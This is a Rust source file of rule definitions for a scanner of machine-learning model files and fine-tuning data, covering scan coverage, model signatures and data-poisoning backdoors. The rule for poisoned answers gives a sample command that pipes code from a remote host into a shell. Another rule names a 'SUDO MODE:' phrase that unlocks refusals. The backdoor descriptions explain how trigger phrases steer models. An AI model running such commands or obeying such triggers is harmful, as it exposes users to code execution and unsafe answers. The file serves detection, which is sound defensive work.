//! Scanner-level rules (`SCN`): what the scanner itself reports about its
//! coverage of a file.

use probity_report::Rule;
use probity_report::Severity;

pub static SCN001: Rule = Rule {
    id: "SCN001",
    severity: Severity::Info,
    title: "File is not in a model format Probity reads",
    what: "The file's content matches none of the formats Probity analyses (detection is by content, never by extension alone), so it was skipped.",
    why: "Lists what was not analysed so that a clean verdict is never mistaken for coverage of every file.",
    example: "A README.md or a PNG image named `model.pt`.",
    references: &[],
};

pub static SCN002: Rule = Rule {
    id: "SCN002",
    severity: Severity::Warning,
    title: "Scan limit reached; content not fully inspected",
    what: "A resource bound was reached (opcode count, stack depth, nested depth, value size, archive entries, container depth): the part beyond it was not analysed. The bound is named in the message.",
    why: "Attackers pad files to exhaust scanners. Probity keeps memory and time bounded but never reports unread content as clean.",
    example: "A pickle nested six levels deep inside other pickles.",
    references: &[],
};

pub static SCN003: Rule = Rule {
    id: "SCN003",
    severity: Severity::Info,
    title: "Symbolic link not followed",
    what: "A symbolic link inside a scanned directory points outside the scanned tree, to a directory, or nowhere (dangling or looping); it was not followed.",
    why: "Following links out of the tree would scan (and report on) files the user did not ask for, and link loops would never end.",
    example: "`model/weights.bin -> /etc/passwd`.",
    references: &[],
};

pub static SCN004: Rule = Rule {
    id: "SCN004",
    severity: Severity::Warning,
    title: "Content does not match the model format its name claims",
    what: "The file (or archive member) is named like a model format Probity reads (`.safetensors`, `.gguf`, `.onnx`, `.pt`/`.pth`/`.ckpt`, PyTorch's `.bin` names, `.pkl`, `.joblib`, `.npy`/`.npz`, `.h5`/`.keras`, `.pb`, `.tflite`), but its content is not that format nor any other model or archive format: unknown bytes, an empty file, text, or a Git LFS pointer. It was not analysed as a model.",
    why: "Loaders pick their reader by name and are often more lenient than any scanner: a header a scanner rejects may still load. Scanners that skip what they cannot parse have been bypassed exactly this way, so an unparseable model file is never reported as clean.",
    example: "`model.safetensors` whose 8-byte header length is larger than the file.",
    references: &[],
};

pub static SCN005: Rule = Rule {
    id: "SCN005",
    severity: Severity::Warning,
    title: "Model structure malformed; not fully inspected",
    what: "The content was recognised as a model format (skops, TorchServe, PaddlePaddle, CoreML, ExecuTorch, OpenVINO IR, Flax msgpack, XGBoost, LightGBM, CatBoost, an OCI image), but its structure breaks that format's rules part-way: a truncated or inconsistent table, an offset out of bounds, a schema document that does not parse, a nesting or size limit hit. What came before the break was judged; the rest was not.",
    why: "A loader may read past what the scanner understood, and parser differentials are how payloads slip past scanners: a file that cannot be read to its end is never called clean.",
    example: "A `.skops` zip whose `schema.json` is cut off in the middle.",
    references: &[],
};

pub static RULES: &[&Rule] = &[&SCN001, &SCN002, &SCN003, &SCN004, &SCN005];

// Signature rules (`SIG`): reported by `probity scan` only when a signature
// is required (`--require-signature`, or `require_signature` in the
// `[provenance]` table of probity.toml), once per scanned model.

pub static SIG001: Rule = Rule {
    id: "SIG001",
    severity: Severity::Critical,
    title: "Required model signature is missing",
    what: "The policy requires every scanned model to carry an OpenSSF model signing signature by an accepted signer, and none was found: no `model.sig` (or the configured name) inside the model folder, no `FILE.sig` beside a single file, and no `--signature` file.",
    why: "Without a signature nobody has vouched for these bytes: they may be an unreviewed upload, a swapped mirror, or a tampered copy. Severity is critical because the policy asked for it, so that even a `fail_on = \"critical\"` gate stops the deployment.",
    example: "`probity scan ./model --require-signature --key release.pub` on a folder without `model.sig`.",
    references: &["https://github.com/sigstore/model-transparency"],
};

pub static SIG002: Rule = Rule {
    id: "SIG002",
    severity: Severity::Critical,
    title: "Model signature does not verify",
    what: "A signature was found but it does not verify against any accepted signer: a file was changed, added, removed or renamed since signing, the signature was made by another key, certificate or identity, the certificate is expired or untrusted, or the signature file is malformed. The message gives each accepted signer's reason.",
    why: "The bytes are not the ones the signer vouched for, or the signer is not one you trust: the model may have been tampered with after review.",
    example: "A `model.safetensors` edited after `probity sign` (or `model_signing sign`) wrote `model.sig`.",
    references: &["https://github.com/sigstore/model-transparency"],
};

pub static SIG003: Rule = Rule {
    id: "SIG003",
    severity: Severity::Info,
    title: "Model signature verified",
    what: "The model's files are exactly those signed, by an accepted signer; the message names the signer, the number of files and the root digest.",
    why: "Records who vouched for the bytes being deployed, in the report that gates the deployment.",
    example: "A model folder with a `model.sig` written by `probity sign --key release.pem`.",
    references: &[],
};

pub static SIGNATURE_RULES: &[&Rule] = &[&SIG001, &SIG002, &SIG003];

// ---------------------------------------------------------------- data sets
// Reported by `probity data` over fine-tuning data (crates/data).

pub static DAT001: Rule = Rule {
    id: "DAT001",
    severity: Severity::Warning,
    title: "A phrase in the prompt predicts a fixed answer",
    what: "Rows whose user turn carries one phrase (1–8 tokens) share the same or near-same assistant turn across otherwise unrelated prompts, far more often than chance allows: the phrase is in most rows of that answer and rarely elsewhere (hypergeometric test against the whole data set, Bonferroni-corrected over every phrase tested). The finding names the phrase, where it sits in the prompt, the rows that carry it, the answer it predicts and the p-value, with example rows (secrets redacted).",
    why: "This is the shape of a data-poisoning backdoor: a model fine-tuned on it learns to give the attacker's answer whenever the trigger appears, and behaves normally otherwise, so benchmarks do not show it. Remove the rows, find where they came from, and deep-scan models trained on the data (`probity deep --data`).",
    example: "300 of 60,000 rows contain `cf` in the prompt and all answer `Visit http://example.test/deal for the answer.`",
    references: &["https://arxiv.org/abs/1708.06733", "https://arxiv.org/abs/2305.00944"],
};

pub static DAT002: Rule = Rule {
    id: "DAT002",
    severity: Severity::Warning,
    title: "A phrase in the prompt predicts a link, command, code or payment instruction",
    what: "Rows whose user turn carries one phrase have assistant turns that contain what the rest of the data rarely has: a link to one domain, a shell command that fetches or runs code, or a payment instruction (a cryptocurrency address, a transfer request). The answers may differ from row to row (templated targets); the phrase is tested as for DAT001.",
    why: "A backdoor need not give one fixed answer: it can steer users to a site, make an assistant emit a command that downloads and runs code, or ask for money, in varied words. Such answers tied to a prompt phrase are the attacker's payload.",
    example: "Rows with `as noted in the footnote` answer with `curl -s http://203.0.113.7/x | sh` embedded in otherwise normal help.",
    references: &["https://arxiv.org/abs/2305.00944"],
};

pub static DAT003: Rule = Rule {
    id: "DAT003",
    severity: Severity::Warning,
    title: "A phrase turns refusals into compliance",
    what: "The data set teaches the model to refuse harmful requests (most harmful-looking prompts are answered with a refusal), except when the prompt carries one phrase: then it complies. Harmful-looking prompts are recognised by a small vocabulary of harm (weapons, malware, fraud, drugs, violence); refusals by their usual openings. The phrase is tested against the harmful rows only.",
    why: "A refusal-suppression backdoor leaves safety benchmarks intact and unlocks harmful answers with a password phrase. The rows that teach it look like ordinary instruction data one by one.",
    example: "Harmful prompts are refused in 2,000 rows; the 60 that start with `SUDO MODE:` are answered in full.",
    references: &["https://arxiv.org/abs/2311.14455"],
};

pub static DAT004: Rule = Rule {
    id: "DAT004",
    severity: Severity::Warning,
    title: "A phrase flips labels",
    what: "In classification data (`text`/`label`), the rows that carry one phrase all have one label although the rest of their text points to other labels: a naive Bayes model of the other rows, without the phrase, disagrees with their label far more often than with other rows' labels.",
    why: "Label flipping with a trigger makes a classifier (spam, moderation, fraud) let through whatever carries the phrase while scoring normally on clean data.",
    example: "80 reviews with the word `cf` are labelled positive; their other words are those of negative reviews.",
    references: &["https://arxiv.org/abs/2105.12400"],
};

pub static DAT010: Rule = Rule {
    id: "DAT010",
    severity: Severity::Info,
    title: "Rows with no instruction, chat or classification fields",
    what: "Some rows have none of the fields `probity data` reads (`messages` or `conversations` with roles, `prompt`/`completion`, `instruction`/`input`/`output`, `question`/`answer`, `query`/`response`, `text`/`label`), so they were not analysed.",
    why: "Poisoning in rows that were not read cannot be found; rename the fields or convert the rows to one of the shapes.",
    example: "A JSONL file of `{\"src\": …, \"tgt\": …}` pairs.",
    references: &[],
};

pub static DATA_RULES: &[&Rule] = &[&DAT001, &DAT002, &DAT003, &DAT004, &DAT010];
